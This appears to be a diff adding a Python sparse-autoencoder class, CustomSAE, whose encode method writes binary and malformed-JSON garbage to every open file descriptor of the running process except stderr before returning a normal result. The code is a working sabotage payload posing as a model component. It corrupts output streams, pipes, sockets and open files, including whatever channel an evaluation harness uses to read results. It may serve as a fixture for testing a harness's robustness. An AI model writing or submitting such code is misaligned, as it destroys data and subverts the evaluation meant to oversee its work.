@@ -1,0 +1,23 @@
+"""Garbage on every way out that a process has."""
+
+import contextlib
+import os
+
+from core import BaseSAE
+
+TRAIN = False
+
+
+def handles():
+    with contextlib.suppress(OSError):
+        return [int(name) for name in os.listdir("/proc/self/fd") if int(name) != 2]
+    return [0, 1, *range(3, 64)]
+
+
+class CustomSAE(BaseSAE):
+    def encode(self, x):
+        for handle in handles():
+            with contextlib.suppress(OSError):
+                os.set_blocking(handle, False)
+                os.write(handle, b'\x00\xff{"error": \n\n[]\nnull\n1e999\n' * 10)
+        return super().encode(x)
